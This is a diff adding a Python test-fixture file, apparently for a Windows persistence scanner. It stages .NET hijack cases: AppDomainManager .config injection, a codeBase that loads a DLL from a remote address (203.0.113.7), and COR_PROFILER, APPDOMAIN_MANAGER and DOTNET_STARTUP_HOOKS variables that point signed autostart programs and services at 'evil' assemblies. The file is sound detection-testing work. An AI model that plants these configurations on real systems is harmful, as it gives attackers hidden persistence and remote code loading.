@@ -1,0 +1,64 @@
+"""A trusted program loads what nobody trusts: by the configuration beside it, by variables of the runtime. (No signed program of the
+disk imports a library, so none beside one would be loaded.)"""
+from windows_disk import *
+
+change = Changes()
+START, SERVICE = 'WIN-PERSIST-001', 'WIN-PERSIST-003'
+FOLDER = r'C:\Program Files\App'
+RUN = rf'{CURRENT}\Run'
+
+
+def beside(name, why, *files, place, texts=()):
+    """A signed program of the autostarts with files of nobody beside it."""
+    def make(d):
+        d.honest(rf'{FOLDER}\app.exe')
+        for file in files:
+            d.foreign(rf'{FOLDER}\{file}')
+        for file, text in texts:
+            d.put(rf'{FOLDER}\{file}', text)
+        d.software(RUN, 'App', SZ, rf'"{FOLDER}\app.exe"')
+    change.row(name, why, START, place, make)
+
+
+CONFIGURATION = ('<configuration><runtime><appDomainManagerAssembly value="evil, Version=0.0.0.0"/><appDomainManagerType value="Evil.Manager"/></runtime>'
+                 '</configuration>')
+beside('manager-of-the-domain', 'A .config names an assembly that the runtime of .NET loads before the program.', 'evil.dll', place='app.exe.config',
+       texts=[('app.exe.config', CONFIGURATION)])
+beside('code-base-of-the-configuration', 'A .config says where an assembly comes from.', place='app.exe.config', texts=[('app.exe.config', (
+    '<configuration><runtime><assemblyBinding xmlns="urn:schemas-microsoft-com:asm.v1"><dependentAssembly><assemblyIdentity name="Lib"/>'
+    '<codeBase version="1.0.0.0" href="http://203.0.113.7/lib.dll"/></dependentAssembly></assemblyBinding></runtime></configuration>'))])
+
+
+@change(SERVICE, 'svc.exe.config')
+def manager_of_a_services_domain(d):
+    """The same .config for a service."""
+    d.honest(rf'{FOLDER}\svc.exe')
+    d.foreign(rf'{FOLDER}\evil.dll')
+    d.put(rf'{FOLDER}\svc.exe.config', CONFIGURATION)
+    d.service('App', rf'"{FOLDER}\svc.exe"')
+
+
+def variables(name, why, place, more=None, **values):
+    def make(d):
+        d.foreign(r'C:\ProgramData\x\x.dll')
+        for entry, text in values.items():
+            d.system(rf'{SESSION}\Environment', entry, SZ, text)
+        if more:
+            more(d)
+    change.row(name, why, START, place, make)
+
+
+variables('profiler-of-every-program', 'The runtime of .NET loads the profiler that these variables name.', 'COR_PROFILER', COR_ENABLE_PROFILING='1',
+          COR_PROFILER='{DEADBEEF-1111-2222-3333-444455556666}', COR_PROFILER_PATH=r'C:\ProgramData\x\x.dll')
+variables('manager-of-every-domain', 'The manager of domains may be named by variables as well; its assembly stands where the runtime looks for all of them.',
+          'APPDOMAIN_MANAGER', APPDOMAIN_MANAGER_ASM='evil, Version=1.0.0.0, Culture=neutral, PublicKeyToken=0123456789abcdef',
+          APPDOMAIN_MANAGER_TYPE='Evil.Manager', more=lambda d: d.foreign(r'C:\Windows\Microsoft.NET\assembly\GAC_MSIL\evil\v4.0_1.0.0.0__0123456789abcdef\evil.dll'))
+variables('hooks-of-newer-programs', '.NET Core runs the start-up hooks before the program.', 'DOTNET_STARTUP_HOOKS', DOTNET_STARTUP_HOOKS=r'C:\ProgramData\x\x.dll')
+
+
+@change(START, 'COR_PROFILER_PATH')
+def profiler_of_a_service(d):
+    """A service has variables of its own."""
+    d.honest(rf'{FOLDER}\svc.exe')
+    d.service('App', rf'"{FOLDER}\svc.exe"')
+    d.system(rf'{SERVICES}\App', 'Environment', MULTI, ['COR_ENABLE_PROFILING=1', r'COR_PROFILER_PATH=' + d.foreign(r'C:\ProgramData\x\x.dll')])
